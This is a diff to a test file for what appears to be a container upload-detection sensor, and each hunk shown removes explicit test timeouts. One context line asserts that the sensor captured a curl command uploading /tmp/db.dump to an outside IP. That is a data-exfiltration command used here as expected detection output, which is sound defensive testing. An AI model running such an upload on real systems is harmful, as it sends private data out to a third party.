@@ -82,12 +82,12 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
         };
       },
     });
-  }, 180_000);
+  });
 
   afterAll(async () => {
     await own.close();
     await rm(folder, { recursive: true, force: true });
-  }, 60_000);
+  });
 
   test('every sensor that was asked for looks, and loses nothing', () => {
     expect(Object.fromEntries(running.map(({ name, state }) => [name, state]))).toEqual({
@@ -175,12 +175,12 @@ describe.skipIf(whyNot !== null)('where audit stands in for bpftrace', () => {
     folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
     own = await SenseLab.open();
     audit = settings();
-  }, 60_000);
+  });
 
   afterAll(async () => {
     await own.close();
     await rm(folder, { recursive: true, force: true });
-  }, 60_000);
+  });
 
   test('the upload is found, its command is told, and nothing of ours stays in the kernel', async () => {
     const { lab } = own;
@@ -230,7 +230,7 @@ describe.skipIf(whyNot !== null)('where audit stands in for bpftrace', () => {
     expect(curl).toMatchObject({ complete: 1 });
     expect(curl!.text).toContain('n'.repeat(700));
     expect(curl!.text).toContain(' -T /tmp/db.dump http://198.51.100.10/drop/db.dump');
-  }, 120_000);
+  });
 });
 
 describe.skipIf(whyNot !== null)('when something breaks', () => {
@@ -242,12 +242,12 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
     folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
     own = await SenseLab.open();
     lab = own.lab;
-  }, 60_000);
+  });
 
   afterAll(async () => {
     await own.close();
     await rm(folder, { recursive: true, force: true });
-  }, 60_000);
+  });
 
   test('an engine that restarts leaves a gap, and is watched again', async () => {
     const options = {
@@ -281,7 +281,7 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
       state: 'degraded',
       reason: expect.stringContaining('byte counters are off'),
     });
-  }, 60_000);
+  });
 
   test('a sensor that is killed leaves no process, and what it changed is put back', async () => {
     const counters = () => new KernelSettings(lab.hostNamespace).read('net/netfilter/nf_conntrack_acct');
@@ -306,7 +306,7 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
     expect(await counters()).toBe('1');
     expect(own.inNetns(process.execPath, main, 'sense', '--restore')).toContain('nf_conntrack_acct = 0');
     expect(await counters()).toBe('0');
-  }, 60_000);
+  });
 });
 
 async function until(isTrue: () => boolean): Promise<void> {
